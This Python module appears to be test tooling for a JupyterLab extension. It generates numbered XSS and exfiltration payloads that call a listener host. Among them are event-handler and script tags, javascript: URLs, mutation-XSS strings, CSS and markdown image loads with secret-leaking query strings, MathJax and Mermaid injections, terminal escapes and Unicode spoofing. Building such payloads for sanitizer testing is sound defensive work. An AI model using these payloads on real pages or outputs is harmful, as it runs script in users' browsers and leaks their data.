"""Texts that try to run a script or to send something away, as attackers write them.

They are made of real families: ways to run, ways to load, ways to hide both from who looks. Every
one has its number in it, so that a trap can tell which one worked. ``{js}`` is code that calls the
trap or the listener, ``{url}`` an address of the listener.
"""

from __future__ import annotations

from collections.abc import Iterator
from itertools import islice, product, zip_longest

# -- what is run

CODE = (
    "xss({n})",
    "alert({n})",
    "fetch('http://{host}/{n}')",
    "new Image().src='http://{host}/{n}'",
    "window['x'+'ss']({n})",
    "navigator.sendBeacon('http://{host}/{n}')",
    "import('http://{host}/{n}.js')",
    "top.xss({n})",
)

# -- elements that run something by themselves

HANDLERS = (
    "<img src=x onerror={js}>",
    "<svg onload={js}>",
    "<svg><animate onbegin={js} attributeName=x dur=1s>",
    "<svg><set onbegin={js} attributename=x>",
    "<body onload={js}>",
    "<body onpageshow={js}>",
    "<video><source onerror={js}></video>",
    "<video src=x onerror={js}></video>",
    "<audio src=x onerror={js}></audio>",
    "<details open ontoggle={js}>x</details>",
    "<input autofocus onfocus={js}>",
    "<select autofocus onfocus={js}></select>",
    "<textarea autofocus onfocus={js}></textarea>",
    "<keygen autofocus onfocus={js}>",
    "<a href=x onmouseover={js}>x</a>",
    "<div tabindex=0 onfocus={js} autofocus>x</div>",
    "<p onclick={js}>x</p>",
    "<b onpointerenter={js}>x</b>",
    "<div style=animation-name:jp-assistants-blink onanimationstart={js}>x</div>",
    "<div style='transition:all 1s' ontransitionend={js}>x</div>",
    "<marquee onstart={js}>x</marquee>",
    "<iframe onload={js}></iframe>",
    "<object data=x onerror={js}></object>",
    "<embed src=x onload={js}>",
    "<style onload={js}></style>",
    "<link rel=stylesheet href=x onerror={js}>",
    "<script onerror={js} src=x></script>",
    "<table><td onmouseenter={js}>x",
    "<button onclick={js} popovertarget=x>x</button><div popover id=x onbeforetoggle={js}>x</div>",
    "<form onsubmit={js}><button>x</button></form>",
    "<xss contenteditable onfocus={js} tabindex=1>x</xss>",
    "<math><mi onclick={js}>x</mi></math>",
    "<progress onmouseover={js}>x</progress>",
    "<dialog open onclose={js}><form method=dialog><button>x</button></form></dialog>",
)
QUOTING = ("{tag}", "{upper}", "{slash}", "{newline}", "{quoted}", "{entities}")

SCRIPTS = (
    "<script>{js}</script>",
    "<SCRIPT>{js}</SCRIPT>",
    "<script src=http://{host}/{n}.js></script>",
    "<script/src=//{host}/{n}></script>",
    "<script\n>{js}</script\n>",
    "<scr<script>ipt>{js}</scr</script>ipt>",
    "<script type=module>{js}</script>",
    "<script type=text/javascript>{js}//",
    "<svg><script>{js}</script></svg>",
    "<svg><script href=//{host}/{n}></script></svg>",
    "<svg><script>&#97;lert({n})</script>",
    "<math><script>{js}</script></math>",
    "<script>//<![CDATA[\n{js}\n//]]></script>",
    "<!--><script>{js}</script-->",
    "<iframe srcdoc='<script>parent.xss({n})</script>'></iframe>",
    '<object data="data:text/html,<script>{js}</script>"></object>',
    "<embed src='data:image/svg+xml,<svg onload={js}>'>",
    "<template><script>{js}</script></template>",
    "<div shadowrootmode=open><template shadowrootmode=open><img src=x onerror={js}></template></div>",
)

# -- addresses that run something

SCHEMES = (
    "javascript:{js}",
    "JaVaScRiPt:{js}",
    " javascript:{js}",
    "\x01javascript:{js}",
    "java\tscript:{js}",
    "java&#10;script:{js}",
    "java&Tab;script&colon;{js}",
    "&#106;avascript:{js}",
    "&#x6A;&#x61;vascript:{js}",
    "javascript&#58;{js}",
    "javascript:%0a{js}",
    "javascript://%0a{js}",
    "vbscript:xss({n})",
    "data:text/html,<script>{js}</script>",
    "data:text/html;base64,PHNjcmlwdD54c3MoMSk8L3NjcmlwdD4=",
    "data:image/svg+xml,<svg onload={js}>",
    "blob:http://{host}/{n}",
    "feed:javascript:{js}",
    "jar:javascript:{js}!/",
    "view-source:javascript:{js}",
    "file:///etc/passwd?{n}",
)
ADDRESSED = (
    '<a href="{url}">x</a>',
    "[x]({url})",
    "[x](<{url}>)",
    "[x][r]\n\n[r]: {url}",
    "<{url}>",
    "![x]({url})",
    '<form action="{url}"><button>x</button></form>',
    '<button formaction="{url}">x</button>',
    '<iframe src="{url}"></iframe>',
    '<object data="{url}"></object>',
    '<embed src="{url}">',
    '<svg><a xlink:href="{url}"><text y=9>x</text></a></svg>',
    '<svg><use href="{url}"/></svg>',
    '<math><maction actiontype=statusline xlink:href="{url}">x</maction></math>',
    '<map><area href="{url}" shape=default></map>',
    '<base href="{url}">',
    '<meta http-equiv=refresh content="0;url={url}">',
    '<img src="{url}">',
    '<link rel=stylesheet href="{url}">',
    '<div style="background:url({url})">x</div>',
)

# -- text that becomes something else when it is read twice

MUTATIONS = (
    '<svg></p><style><a id="</style><img src=1 onerror={js}>">',
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror={js}&gt;'>",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror={js}>",
    '<noscript><p title="</noscript><img src=x onerror={js}>">',
    '<svg><p><style><g title="</style><img src onerror={js}>">',
    '<math><annotation-xml encoding="text/html"><style><img src=x onerror={js}></style>',
    "<svg><foreignObject><img src=x onerror={js}></foreignObject></svg>",
    '<svg><desc><style><img title="</style><img src=x onerror={js}>">',
    "<xmp><p title='</xmp><img src=x onerror={js}>'>",
    "<plaintext><img src=x onerror={js}>",
    "<listing>&lt;img src=x onerror={js}&gt;</listing>",
    "<template><s><template><s><img src=x onerror={js}>x</s></template>",
    '<table><tr><td><style><a title="</style><img src=x onerror={js}>">',
    "<select><template><img src=x onerror={js}></template></select>",
    "<option><style></option></select><img src=x onerror={js}></style>",
    '<textarea><img title="</textarea><img src=x onerror={js}>">',
    '<title><a title="</title><img src=x onerror={js}>">',
    "<!--><img src=x onerror={js}>-->",
    "<!-- --!><img src=x onerror={js}> -->",
    "<![CDATA[><img src=x onerror={js}>]]>",
    "<?xml ><img src=x onerror={js}> ?>",
    "</br title='<img src=x onerror={js}>'>",
    "<a\x00 href=javascript:{js}>x</a>",
    "<\x00img src=x onerror={js}>",
    "&lt;img src=x onerror={js}&gt;",
    "&amp;lt;img src=x onerror={js}&amp;gt;",
    "%3Cimg src=x onerror={js}%3E",
    "\\u003cimg src=x onerror={js}\\u003e",
    "\uff1cimg src=x onerror={js}\uff1e",
    "<<img src=x onerror={js}>//<",
    "<img <img src=x onerror={js}>",
    '<img src="x` `<script>{js}</script>"` `>',
)

# -- text that ends what it stands in

BREAKS = (
    '"><img src=x onerror={js}>',
    "'><svg onload={js}>",
    "--><script>{js}</script>",
    "</script><script>{js}</script>",
    "</textarea><img src=x onerror={js}>",
    "</style><img src=x onerror={js}>",
    "</title><svg onload={js}>",
    "]]><img src=x onerror={js}>",
    "'-{js}-'",
    '"+{js}+"',
    "`${{{js}}}`",
    "{{{{constructor.constructor('{js}')()}}}}",
    "<%= {js} %>",
    "#{{{js}}}",
    "```\n<img src=x onerror={js}>\n```",
    "`<img src=x onerror={js}>`",
    "``` <img src=x onerror={js}>\nx",
    "~~~\n```\n<img src=x onerror={js}>",
    "    <img src=x onerror={js}>",
    "| a |\n|---|\n| <img src=x onerror={js}> |",
    "- x\n\n      <img src=x onerror={js}>",
    "> <svg onload={js}>",
    "# <img src=x onerror={js}>",
    "x\n---\n<img src=x onerror={js}>\n",
    "[^1]\n\n[^1]: <img src=x onerror={js}>",
    "**<img src=x onerror={js}>**",
    "<div>\n\n<img src=x onerror={js}>\n\n</div>",
    "report.csv<img src=x onerror={js}>",
    "penguins.csv' onmouseover='{js}",
    'a" autofocus onfocus="{js}',
)

# -- what loads something from elsewhere

LOADS = (
    "<img src={url}>",
    "<img/src={url}>",
    '<img srcset="{url} 2x">',
    '<img src=data:, srcset="{url}">',
    "<picture><source srcset={url}><img></picture>",
    "<img src=x lowsrc={url} dynsrc={url}>",
    "<image src={url}>",
    "<input type=image src={url}>",
    "<video poster={url}></video>",
    "<video src={url} autoplay></video>",
    "<video><track default src={url}></video>",
    "<audio src={url} preload=auto></audio>",
    "<audio><source src={url}></audio>",
    "<iframe src={url}></iframe>",
    "<frameset><frame src={url}></frameset>",
    "<object data={url}></object>",
    "<object><param name=movie value={url}></object>",
    "<embed src={url}>",
    "<applet archive={url}></applet>",
    "<portal src={url}></portal>",
    "<fencedframe config={url}></fencedframe>",
    "<link rel=stylesheet href={url}>",
    "<link rel=preload as=image href={url}>",
    "<link rel=prefetch href={url}>",
    "<link rel=dns-prefetch href={url}>",
    "<link rel=preconnect href={url}>",
    "<link rel=prerender href={url}>",
    "<link rel=icon href={url}>",
    "<link rel=manifest href={url}>",
    "<link rel=modulepreload href={url}>",
    "<style>@import url({url});</style>",
    "<style>@import '{url}';</style>",
    "<style>*{{background:url({url})}}</style>",
    "<style>@font-face{{font-family:x;src:url({url})}}*{{font-family:x}}</style>",
    "<style>input[value^=a]{{background:url({url})}}</style>",
    "<svg><style>*{{fill:url({url})}}</style><rect/></svg>",
    '<p style="background:url({url})">x</p>',
    "<p style=\"background-image:url('{url}')\">x</p>",
    '<p style="background:u\\72l({url})">x</p>',
    '<p style="background:\\000075rl({url})">x</p>',
    '<p style="background:url(&quot;{url}&quot;)">x</p>',
    '<p style="background-image:image-set(&quot;{url}&quot; 1x)">x</p>',
    '<p style="list-style:url({url})">x</p>',
    '<li style="list-style-image:url({url})">x</li>',
    '<p style="cursor:url({url}),auto">x</p>',
    '<p style="content:url({url})">x</p>',
    '<p style="border-image:url({url}) 1">x</p>',
    '<p style="mask:url({url})">x</p>',
    '<p style="filter:url({url}#x)">x</p>',
    '<p style="--x:url({url});background:var(--x)">x</p>',
    '<p style="background/**/:/**/url({url})">x</p>',
    "<body background={url}>",
    "<table background={url}><td background={url}>x",
    "<svg><image href={url} width=9 height=9></svg>",
    "<svg><image xlink:href={url} width=9 height=9></svg>",
    "<svg><use href={url}#x></svg>",
    "<svg><filter id=f><feImage href={url}></filter><rect filter=url(#f) /></svg>",
    "<svg><pattern><image href={url}></pattern></svg>",
    '<svg><rect style="fill:url({url})"/></svg>',
    "<math><mglyph src={url}></math>",
    "<meta http-equiv=refresh content=0;url={url}>",
    "<meta http-equiv=Content-Security-Policy content='report-uri {url}'>",
    "<base href={url}><img src=x>",
    "<a href=x ping={url}>x</a>",
    "<form action={url}><input name=q value=secret><button autofocus>x</button></form>",
    "<isindex action={url}>",
    "<script src={url}></script>",
    "<html manifest={url}>",
    "<bgsound src={url}>",
    "<div><template><img src={url}></template></div>",
    "<noscript><img src={url}></noscript>",
)
IMAGES = (
    "![x]({url})",
    '![x]({url} "t")',
    "![x](<{url}>)",
    "![x](\n{url}\n)",
    "![x][r]\n\n[r]: {url}",
    "![r][]\n\n[r]: {url}",
    "![r]\n\n[r]: <{url}> 'x'",
    "![r]\n\n[r]:\n  {url}",
    "![x]\n\n[X]: {url}",
    "[![x]({url})](http://example.org)",
    "![![x]({url})]({url})",
    "!\\[x]({url})",
    "!&#91;x]({url})",
    "! [x]({url})",
    "!![x]({url})",
    "!<!-- -->[x]({url})",
    "![x\n]({url})",
    "![x]({url}\\)",
    "| ![x]({url}) |\n|---|\n| ![y]({url}) |",
    "- ![x]({url})\n- ![y]({url})",
    "> ![x]({url})",
    "# ![x]({url})",
    "**![x]({url})**",
    "*a ![x]({url} 't') b*",
    "[^1]\n\n[^1]: ![x]({url})",
    "`a` ![x]({url}) `b`",
    "``a` ![x]({url})",
    "```x`\n![x]({url})",
    "$x ![x]({url}) y$",
    "text![x]({url})text",
    "![%s]({url}?d=SECRET)",
    "![x]( {url} )",
    "![x](//{bare})",
    "![x](/\\{bare})",
    "![x](\\\\{bare})",
    "![x](https:{bare})",
    "![x](http:&#47;&#47;{bare})",
    "![x](http&colon;//{bare})",
    "![x](hTTp://{bare})",
    "![x](http://user:pass@{bare})",
    "![x](ht\ttp://{bare})",
)

# -- mathematics and drawings

COMMANDS = (
    "\\href{{javascript:{js}}}{{x}}",
    "\\href{{{url}}}{{x}}",
    "\\url{{javascript:{js}}}",
    "\\includegraphics{{{url}}}",
    "\\style{{background:url({url})}}{{x}}",
    "\\style{{position:fixed;inset:0}}{{x}}",
    "\\class{{jp-Dialog}}{{x}}",
    "\\cssId{{jp-main-dock-panel}}{{x}}",
    "\\require{{html}}\\style{{background:url({url})}}{{x}}",
    "\\require{{[{url}]html}}x",
    "\\unicode[url({url})]{{x41}}",
    "\\bbox[background:url({url})]{{x}}",
    "\\mmlToken{{mi}}[onclick={js}]{{x}}",
    "\\def\\a{{\\href{{javascript:{js}}}{{x}}}}\\a",
    "\\let\\b=\\href \\b{{javascript:{js}}}{{x}}",
    "\\newcommand{{\\c}}{{\\href}}\\c{{javascript:{js}}}{{x}}",
    "\\csname href\\endcsname{{javascript:{js}}}{{x}}",
    "\\text{{<img src=x onerror={js}>}}",
    "\\text{{\\href{{javascript:{js}}}{{x}}}}",
    "\\tag{{<img src={url}>}} x",
    "\\data{{x={js}}}{{x}}",
    "\\html{{<img src={url}>}}",
    "</math><img src=x onerror={js}>",
    "\\color{{red;background:url({url})}}{{x}}",
    "\\begin{{array}}{{c}}\\href{{javascript:{js}}}{{x}}\\end{{array}}",
)
DELIMITERS = ("${tex}$", "$${tex}$$", "\\\\({tex}\\\\)", "\\\\[{tex}\\\\]", "\n$$\n{tex}\n$$\n")

DRAWINGS = (
    'graph TD\nA["<img src={url}>"]',
    'graph TD\nA["<img src=x onerror={js}>"]',
    'graph TD\nA-->B\nclick A href "javascript:{js}"',
    'graph TD\nA-->B\nclick A "{url}" _self',
    "graph TD\nA-->B\nclick A call xss({n})",
    '%%{{init: {{"themeCSS": "@import url({url})"}}}}%%\ngraph TD\nA-->B',
    '%%{{init: {{"securityLevel": "loose", "htmlLabels": true}}}}%%\ngraph TD\nA["<b onclick={js}>x</b>"]',
    '%%{{init: {{"fontFamily": "x;}}*{{background:url({url})}}"}}}}%%\ngraph TD\nA-->B',
    "sequenceDiagram\nlink A: x @ javascript:{js}",
    'classDiagram\nclass A\nclick A href "javascript:{js}"',
)
FENCES = (
    "```mermaid\n{text}\n```",
    "~~~mermaid\n{text}\n~~~",
    "```Mermaid\n{text}\n```",
    "``` mermaid x\n{text}\n```",
    "- x\n\n  ```mermaid\n  {text}\n  ```",
    "<pre><code class=language-mermaid>{text}</code></pre>",
    '<div class="mermaid">{text}</div>',
)

# -- what is meant for JupyterLab, for terminals and for eyes

OTHERS = (
    '<button data-commandlinker-command="apputils:print" data-commandlinker-args="{{}}">{n}</button>',
    '<a data-commandlinker-command="hub:logout" href="#">{n}</a>',
    '<div class="jp-Dialog" style="position:fixed;inset:0"><a href="{url}">{n}</a></div>',
    '<a href="{url}" style="position:fixed;top:0;left:0;width:100vw;height:100vh;opacity:0">{n}</a>',
    '<div class="jp-mod-hidden lm-Widget" id="jupyter-assistants-panel">{n}</div>',
    "<img name=cookie id=documentElement src=x><form id=body><input name=firstChild></form>{n}",
    "<a id=defaultView><a id=defaultView name=xss href={url}>{n}</a>",
    '<a href="{url}" target=_top rel=opener>https://jupyter.org/{n}</a>',
    "[https://jupyter.org/{n}]({url})",
    "[jupyter.org](http://jupyter.org@{bare})",
    '<a href="/lab?reset={n}">x</a>',
    "[x](/hub/logout?{n})",
    "\x1b]8;;javascript:{js}\x07x\x1b]8;;\x07",
    "\x1b[31m<img src=x onerror={js}>\x1b[0m",
    "\x1b[38;2;1;2;3;url({url})m<b>{n}</b>",
    "\x1b[0m<script>{js}</script>\x1b]0;{js}\x07",
    "\u202egpj.{n}exe.\u202d",
    "report\u2066{n}\u2069.csv\u202e",
    "a\u200fb{n}\u061cc",
    "ignore{n}\U000e0041\U000e0042\U000e007f",
    "http://{bare}",
    "www.{bare}/<script>{js}</script>",
    "<http://{bare}>",
    "mailto:x@y.z?body=<script>{js}</script>",
    '{{"application/javascript": "{js}", "n": {n}}}',
    "__proto__",
    "constructor{n}",
    '<svg xmlns="http://www.w3.org/2000/svg" onload="{js}"><script>{js}</script>'
    '<image href="{url}"/><foreignObject><img src="{url}"/></foreignObject></svg>',
    '<?xml version="1.0"?><?xml-stylesheet href="{url}"?><svg xmlns="http://www.w3.org/2000/svg"/>',
    '<!DOCTYPE svg [<!ENTITY x SYSTEM "{url}">]><svg xmlns="http://www.w3.org/2000/svg">&x;</svg>',
)


def payloads(host: str, count: int) -> list[str]:
    """Return so many different texts; ``host`` (with a port) is where they send things.

    The families take turns, so that any part of the list has something of each.
    """
    families = [_handlers(), SCRIPTS, _addressed(), MUTATIONS, BREAKS, LOADS, IMAGES, _math()]
    families += [_drawings(), OTHERS]
    templates = list(islice(_turns(families), count))
    assert len(templates) == count, f"There are only {len(templates)} payloads."
    return [_filled(template, host, at + 1) for at, template in enumerate(templates)]


def _turns(families: list[tuple[str, ...]]) -> Iterator[str]:
    for turn in zip_longest(*families):
        yield from (template for template in turn if template is not None)


def _filled(template: str, host: str, number: int) -> str:
    js = CODE[number % len(CODE)].format(n=number, host=host)
    bare = f"{host}/{number}.png"
    return template.format(js=js, url=f"http://{bare}", bare=bare, host=host, n=number)


def _handlers() -> tuple[str, ...]:
    found = []
    for tag, how in product(HANDLERS, QUOTING):
        forms = {
            "{tag}": tag,
            "{upper}": tag.replace("<", "<", 1).swapcase().replace("{JS}", "{js}"),
            "{slash}": tag.replace(" ", "/", 1),
            "{newline}": tag.replace(" ", "\n", 1).replace("={js}", "\t=\r\n{js}"),
            "{quoted}": tag.replace("{js}", '"{js}"'),
            "{entities}": tag.replace("{js}", "&#120;ss({n})"),
        }
        found.append(forms[how])
    return _mixed(found)


def _addressed() -> tuple[str, ...]:
    pairs = product(SCHEMES, ADDRESSED)
    return _mixed([place.replace("{url}", scheme) for scheme, place in pairs])


def _math() -> tuple[str, ...]:
    return _mixed([each.replace("{tex}", tex) for tex, each in product(COMMANDS, DELIMITERS)])


def _drawings() -> tuple[str, ...]:
    return _mixed([each.replace("{text}", text) for text, each in product(DRAWINGS, FENCES)])


def _mixed(found: list[str]) -> tuple[str, ...]:
    """Return them in an order in which neighbours are of different kinds, always the same."""
    step = next(n for n in (37, 41, 43, 47) if len(found) % n)
    return tuple(found[(at * step) % len(found)] for at in range(len(found)))
